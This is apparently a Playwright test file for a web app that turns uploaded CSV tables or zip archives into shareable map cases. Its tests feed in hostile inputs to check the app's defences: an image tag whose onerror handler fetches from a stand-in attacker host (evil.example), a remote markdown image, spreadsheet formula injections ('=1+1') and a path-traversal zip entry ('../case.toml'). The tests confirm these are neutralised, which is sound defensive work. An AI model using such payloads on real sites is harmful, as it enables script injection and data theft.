"""A reader brings a table of their own, is asked about it, and has a case that a link opens."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

from playwright.sync_api import BrowserContext, Locator, Page, expect

from components.ingest.grids import MOST_ROWS
from tests.browser.navigation import go_to
from tests.browser.visit import Visit, visiting
from tests.browser.widgets import bring_file, grid
from tests.ingest.archives import files_in, with_entry, zipped
from tests.toy.breaking import change

_TABLE = (
    "Country;Position;Date\n"
    "Côte d'Ivoire;ally;13/10/2025\n"
    "Korea, Rep.;against;14/10/2025\n"
    "Atlantis;ally;15/10/2025\n"
    "Türkiye;wavering;16/10/2025\n"
).encode("cp1252")
_IMAGE = "<img src=//evil.example/x.png onerror=fetch('//evil.example')>"
_PICTURE = "![kite picture](https://evil.example/x.png)"
_BROKEN = (
    "Country;Position;Date;Source\n"
    f"Fiji;ally;13/10/2025;{_IMAGE}\n"
    f"Oman;ally;14/10/2025;{_PICTURE}\n"
    "Germany;against;16/10/2025;=1+1\n"
).encode()
_BUILT_IN = "Who backs Suva?"
# A machine that is busy takes long for the largest table; that is no fault of the page.
_LONG_MS = 300_000
_MAP = ".st-key-bring-map .js-plotly-plot"


def _bring(visit: Visit, name: str, content: bytes) -> Page:
    page = visit.open("/bring")
    bring_file(page, name, content)
    expect(page.locator(".st-key-bring-other")).to_be_visible()
    visit.settle()
    return page


def test_a_table_as_large_as_may_be_shows_how_far_it_is_and_becomes_a_case(visit: Visit) -> None:
    states, stances = ("France", "Fiji", "Oman", "Peru", "Malta"), ("ally", "against", "neutral")
    rows = (
        f"{states[place % 5]};{stances[place % 3]};2025-10-{place % 28 + 1:02};said in part {place}"
        for place in range(MOST_ROWS)
    )
    page = visit.open("/bring")
    bring_file(page, "large.csv", "\n".join(("Country;Position;Date;Words", *rows)).encode())
    expect(page.get_by_text("Reading the file")).to_be_visible()
    page.locator(".st-key-bring-other").wait_for(timeout=_LONG_MS)
    visit.settle()
    _answer(visit, "Stances are toward", "Venezuela")
    _type(visit, "bring-question", "Who flies kites?")
    page.get_by_role("button", name="Check every row and open the map").click()
    expect(page.get_by_text("Checking every row of every table")).to_be_visible()
    page.wait_for_url("**/map?*case=*", timeout=_LONG_MS)
    expect(_strip(page)).to_contain_text("large", timeout=_LONG_MS)


def _answer(visit: Visit, label: str, option: str) -> None:
    """Choose in the box whose label begins so."""
    box = visit.page.get_by_role("combobox", name=re.compile(re.escape(label)))
    box.click()
    visit.page.keyboard.type(option)
    visit.page.get_by_role("option", name=option, exact=True).click()
    visit.settle()


def _type(visit: Visit, name: str, text: str) -> None:
    box = visit.page.locator(f".st-key-{name} input").first
    box.fill(text)
    box.press("Enter")
    visit.settle()


def _strip(page: Page) -> Locator:
    return page.get_by_role("status").filter(has_text="a case that a reader brought")


def test_a_table_is_asked_about_and_becomes_a_case_that_only_its_link_opens(
    windows: BrowserContext, visit: Visit
) -> None:
    page = _bring(visit, "kites.csv", _TABLE)
    still = page.get_by_test_id("stAlert")
    expect(still).to_contain_text("1 word for a stance and 1 name")
    _answer(visit, "Stances are toward", "Venezuela")
    _answer(visit, "wavering", "Neutral")
    expect(page.locator(_MAP)).to_be_visible()
    _answer(visit, "Atlantis", "leave these rows out")
    _type(visit, "bring-question", "Who flies kites?")
    expect(still).to_have_count(0)
    page.get_by_role("button", name="Check every row and open the map").click()
    page.wait_for_url("**/map?*case=*")
    expect(_strip(page)).to_contain_text("kites")

    held = page.url
    page.reload()
    visit.settle()
    expect(_strip(page)).to_contain_text("kites")
    go_to(page, "sources")
    expect(_strip(page)).to_contain_text("kites")
    assert parse_qs(urlsplit(page.url).query)["case"] == parse_qs(urlsplit(held).query)["case"]

    assert windows.browser
    others = windows.browser.new_context()
    with visiting(others, visit.server) as other:
        other.open("/map")
        expect(_strip(other.page)).to_have_count(0)
        expect(other.page.get_by_text(_BUILT_IN).first).to_be_visible()
        other.open(held.removeprefix(visit.server))
        expect(_strip(other.page)).to_contain_text("kites")
    others.close()

    page.get_by_role("link", name=f"Back to {_BUILT_IN}").click()
    expect(_strip(page)).to_have_count(0)
    visit.settle()
    assert "case=" not in page.url


def test_a_hostile_archive_gives_one_fault_and_no_case(visit: Visit) -> None:
    page = _bring(visit, "case.zip", with_entry("../case.toml", b"title = 'x'"))
    expect(page.get_by_role("heading", name="1 fault to mend")).to_be_visible()
    expect(page.get_by_role("button", name=re.compile("map"))).to_have_count(0)


def _listed(page: Page) -> set[str]:
    """Return the cells of the list of faults, as they are read aloud."""
    cells = grid(page).locator("tbody tr td")
    expect(cells.first).not_to_be_empty()
    return {*cells.all_text_contents()}


def _faulty_rows(page: Page, table: str) -> list[dict[str, str]]:
    with page.expect_download() as download:
        page.get_by_role("button", name=f"Faulty rows of {table} with their faults").click()
    with Path(download.value.path()).open(encoding="utf-8-sig", newline="") as lines:
        return list(csv.DictReader(lines))


def test_a_broken_archive_lists_its_faults_and_gives_its_faulty_rows(
    visit: Visit, toy_folder: Path
) -> None:
    number = change(toy_folder, "stances", "ST06", stance=_IMAGE, summary=_PICTURE, actor_id="=1")
    page = _bring(visit, "case.zip", zipped(files_in(toy_folder)))
    expect(page.get_by_role("heading", name=re.compile("faults? to mend"))).to_be_visible()
    visit.settle()
    said = _listed(page)
    assert {"stances", str(number), "actor_id"} <= said
    assert page.locator("[src*=evil], [href*=evil]").count() == 0
    (row,) = _faulty_rows(page, "stances")
    assert (row["row"], row["actor_id"], row["stance"]) == (str(number), "'=1", _IMAGE)
    assert "actor_id: found" in row["faults"]
    assert visit.asked_of_others() == []


def test_a_broken_table_lists_its_faults_runs_nothing_and_gives_its_faulty_rows(
    visit: Visit,
) -> None:
    page = _bring(visit, "kites.csv", _BROKEN)
    _answer(visit, "Stances are toward", "Venezuela")
    _type(visit, "bring-question", "Who flies kites?")
    page.get_by_role("button", name="Check every row and open the map").click()
    expect(page.get_by_role("heading", name="1 fault to mend")).to_be_visible()
    visit.settle()
    assert {"kites.csv", "4", "Source"} <= _listed(page)
    assert page.locator("[src*=evil], [href*=evil]").count() == 0
    (row,) = _faulty_rows(page, "table")
    assert (row["row"], row["Country"], row["Source"]) == ("4", "Germany", "'=1+1")
    assert row["faults"].startswith("Source: found ")
    assert visit.asked_of_others() == []
